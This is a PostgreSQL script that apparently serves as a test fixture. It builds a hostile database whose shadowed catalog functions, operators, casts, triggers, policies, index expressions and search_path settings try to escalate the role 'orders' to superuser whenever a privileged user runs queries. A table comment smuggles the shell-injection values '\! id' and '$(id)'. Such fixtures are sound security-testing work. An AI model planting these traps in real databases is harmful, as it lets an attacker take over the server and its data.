-- A database whose owner has put his own at every place that another's SQL can touch: it tells in the server's log who
-- runs it, and tries to become more.
set role orders;
create schema evil;
grant all on schema evil, public to public;
create function evil.note(what text) returns boolean language plpgsql immutable as $$
begin
    raise warning 'EVIL % session=% current=%', what, session_user, current_user;
    begin execute 'alter role orders superuser'; exception when others then null; end;
    begin execute 'grant stock to orders'; exception when others then null; end;
    begin execute 'alter database stock owner to orders'; exception when others then null; end;
    begin execute 'reset session authorization; alter role orders superuser'; exception when others then null; end;
    return true;
end $$;
grant execute on function evil.note(text) to public;

-- Functions and operators under the names of PostgreSQL's, with the same arguments.
do $$
declare
    f record;
begin
    for f in
        select p.proname, pg_get_function_identity_arguments(p.oid) as arguments, format_type(prorettype, null) as type
        from pg_proc p
        where pronamespace = 'pg_catalog'::regnamespace and prokind = 'f' and not proretset and provariadic = 0
        and prorettype not in (select oid from pg_type where typtype = 'p')
        and not exists (select from unnest(proargtypes) as t join pg_type on pg_type.oid = t where typtype = 'p')
        and proname in ('age', 'array_to_string', 'char_length', 'col_description', 'convert_from', 'convert_to', 'current_database', 'current_setting',
            'encode', 'decode', 'format_type', 'has_database_privilege', 'hashtext', 'hashtextextended', 'left', 'length', 'lower', 'md5', 'mxid_age', 'now', 'obj_description',
            'octet_length', 'pg_backend_pid', 'pg_database_size', 'pg_encoding_to_char', 'pg_get_constraintdef', 'pg_get_expr', 'pg_get_functiondef',
            'pg_get_indexdef', 'pg_get_userbyid', 'pg_get_viewdef', 'pg_has_role', 'pg_relation_size', 'pg_size_pretty', 'pg_stat_reset', 'pg_table_size',
            'pg_total_relation_size', 'quote_ident', 'quote_literal', 'regexp_replace', 'replace', 'set_config', 'sha256', 'shobj_description', 'split_part',
            'starts_with', 'strpos', 'substr', 'substring', 'text', 'timezone', 'to_char', 'to_regclass', 'to_regrole', 'translate', 'txid_current', 'upper', 'version')
    loop
        execute format('create function evil.%I(%s) returns %s language plpgsql as %L', f.proname,
                       regexp_replace(f.arguments, '\m(VARIADIC|OUT) ', ''), f.type, format('begin perform evil.note(%L); return null; end', f.proname));
    end loop;
    for f in
        select oprname, format_type(oprleft, null) as l, format_type(oprright, null) as r, format_type(oprresult, null) as type, oprleft, oprright
        from pg_operator
        where oprnamespace = 'pg_catalog'::regnamespace and oprname in ('=', '<>', '<', '>', '~', '!~', '||', '-', '+')
        and oprleft in ('text'::regtype, 'name'::regtype, 'oid'::regtype, '"char"'::regtype, 'int4'::regtype, 'int8'::regtype, 'int2'::regtype)
        and oprright in ('text'::regtype, 'name'::regtype, 'oid'::regtype, '"char"'::regtype, 'int4'::regtype, 'int8'::regtype, 'int2'::regtype)
    loop
        execute format('create function evil.%I(%s, %s) returns %s language plpgsql as %L', 'operator ' || f.oprname, f.l, f.r, f.type,
                       format('begin perform evil.note(%L); return null; end', 'operator ' || f.oprname));
        execute format('create operator evil.%s (leftarg = %s, rightarg = %s, function = evil.%I)', f.oprname, f.l, f.r, 'operator ' || f.oprname);
    end loop;
    execute 'create operator evil.= (leftarg = "char", rightarg = text, function = evil.starts_with)';
exception when undefined_function then null;
end $$;
create function evil.state(bigint, text) returns bigint language plpgsql as 'begin perform evil.note(''aggregate''); return 1; end';
create aggregate evil.count(text) (sfunc = evil.state, stype = bigint, initcond = '0');
create aggregate evil.sum(text) (sfunc = evil.state, stype = bigint, initcond = '0');

-- Types whose values and conversions are his.
create domain public.checked as int check (evil.note('domain'));
create type public.pair as (a int, b public.checked);
create function evil.as_text(public.pair) returns text language plpgsql as 'begin perform evil.note(''cast''); return ''''; end';
create cast (public.pair as text) with function evil.as_text(public.pair) as implicit;
create function evil.apart(float8, float8) returns float8 language plpgsql immutable as 'begin perform evil.note(''range''); return 1; end';
create type public.span as range (subtype = float8, subtype_diff = evil.apart);
create function evil.order_of(int, int) returns int language plpgsql immutable as 'begin perform evil.note(''operator class''); return case when $1 operator(pg_catalog.<) $2 then -1 when $1 operator(pg_catalog.>) $2 then 1 else 0 end; end';

-- A table with his code at each place that has some.
create function evil.of_row() returns trigger language plpgsql as 'begin perform evil.note(''trigger''); return new; end';
create table public.trapped (
    id int primary key check (evil.note('check')),
    n public.checked default 1,
    kept boolean generated always as (evil.note('generated')) stored,
    place public.span,
    couple public.pair,
    said boolean default evil.note('default')
);
create index on public.trapped ((evil.note('index ' || id::text)));
create index on public.trapped (id) where evil.note('predicate');
create index on public.trapped using gist (place);
create statistics public.of_trapped on (evil.note('statistics ' || id::text)), n from public.trapped;
create policy mine on public.trapped using (evil.note('policy'));
alter table public.trapped enable row level security, force row level security;
create trigger on_row before insert or update or delete on public.trapped for each row execute function evil.of_row();
create table public.other (id int references public.trapped);
create rule also as on insert to public.other do also select evil.note('rule');
create view public.looks as select evil.note('view') as seen, * from public.trapped;
create materialized view public.held as select id, evil.note('materialized view') as seen from public.trapped;
create table public.parts (id int, at int) partition by range (evil.order_of(id, at));
create table public.parts_1 partition of public.parts for values from (-1) to (2);
insert into public.trapped (id, place, couple) select i, format('[%s,%s]', i, i + 1)::public.span, row(i, i)::public.pair from generate_series(1, 3) as i;
insert into public.other values (1);
insert into public.parts values (1, 2);
refresh materialized view public.held;
comment on table public.trapped is E'event=backup result=done\n\\! id\n$(id)';
alter default privileges grant all on tables to public;
reset role;
alter database orders set search_path = evil, public, pg_catalog;
alter role orders set search_path = evil, public, pg_catalog;
alter database orders set quote_all_identifiers = on;
alter database orders set default_transaction_read_only = off;
alter database orders set row_security = off;
